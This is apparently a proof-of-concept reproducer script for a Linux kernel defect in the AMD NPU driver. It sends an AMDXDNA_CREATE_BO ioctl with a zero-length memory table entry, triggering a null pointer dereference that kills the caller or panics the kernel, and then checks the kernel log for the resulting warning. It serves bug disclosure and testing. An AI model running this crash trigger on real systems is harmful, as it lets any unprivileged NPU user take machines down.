"""A table of user memory with an entry of no bytes makes the kernel dereference a null pointer.

AMDXDNA_CREATE_BO with one entry of length 0. Any user of the NPU can do it: the caller is killed by the Oops,
a kernel with panic_on_oops goes down.
"""

from __future__ import annotations

import argparse
import ctypes
import fcntl
import mmap
import os
import struct
import sys


def call(fd: int, number: int, layout: str, *values: int, direction: int = 3) -> tuple[int, ...]:
    """One DRM ioctl; its argument as the kernel left it. OSError with the kernel's errno."""
    data = bytearray(struct.pack("<" + layout, *values))
    fcntl.ioctl(fd, direction << 30 | len(data) << 16 | ord("d") << 8 | number, data)
    return struct.unpack("<" + layout, data)


def create_bo(fd: int, kind: int, size: int, vaddr: int = 0) -> int:
    """AMDXDNA_CREATE_BO: 1 shared memory, 2 heap, 3 in the heap, 4 command. The handle."""
    return call(fd, 0x43, "QQQII", 0, vaddr, size, kind, 0)[4]


def table(*entries: tuple[int, int], count: int | None = None) -> ctypes.Array[ctypes.c_char]:
    """A table of user memory: (address, bytes) each; ``count`` lies about their number."""
    data = struct.pack("<iI", 0, len(entries) if count is None else count)
    data += b"".join(struct.pack("<QQ", *entry) for entry in entries)
    return ctypes.create_string_buffer(data, len(data))


class KernelLog:
    """The kernel's messages from now on; none when they may not be read."""

    def __init__(self) -> None:
        try:
            self.fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
            os.lseek(self.fd, 0, os.SEEK_END)
        except OSError:
            self.fd = -1
            print("the kernel log cannot be read (not root): look for a WARNING with dmesg yourself")

    def warning(self) -> str:
        """The first warning since the start, or nothing."""
        while self.fd >= 0:
            try:
                text = os.read(self.fd, 8192).split(b";", 1)[-1].split(b"\n")[0].decode("utf-8", "replace")
            except BlockingIOError:
                break
            if "WARNING: " in text or "BUG: " in text:
                return text
        return ""


def show(node: str) -> str:
    """Ask in a child, as whoever asks may be killed."""
    log = KernelLog()
    child = os.fork()
    if child == 0:
        fd = os.open(node, os.O_RDWR | os.O_CLOEXEC)
        memory = mmap.mmap(-1, mmap.PAGESIZE)
        block = table((ctypes.addressof(ctypes.c_char.from_buffer(memory)), 0))
        try:
            create_bo(fd, 1, mmap.PAGESIZE, ctypes.addressof(block))
        except OSError as error:
            print("refused:", error, flush=True)
        os._exit(0)
    _pid, status = os.waitpid(child, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status):
        raise OSError(os.WEXITSTATUS(status), "the child could not ask")
    ended = f"the caller was killed by signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status) else ""
    return log.warning() or ended


def main() -> int:
    """Say what will be done, do it, say what came of it. 0 as it should be, 1 the defect, 2 not run."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--node", default="/dev/accel/accel0")
    parser.add_argument("--yes", action="store_true", help="do it although it may take the kernel down")
    options = parser.parse_args()
    print("asks for a buffer over a memory table entry of length 0; this can kill the kernel")
    if not options.yes:
        print("not done: this can make the machine unusable; add --yes on one you can reset")
        return 2
    found = show(options.node)
    print("DEFECT: " + found if found else "as it should be", flush=True)
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main())
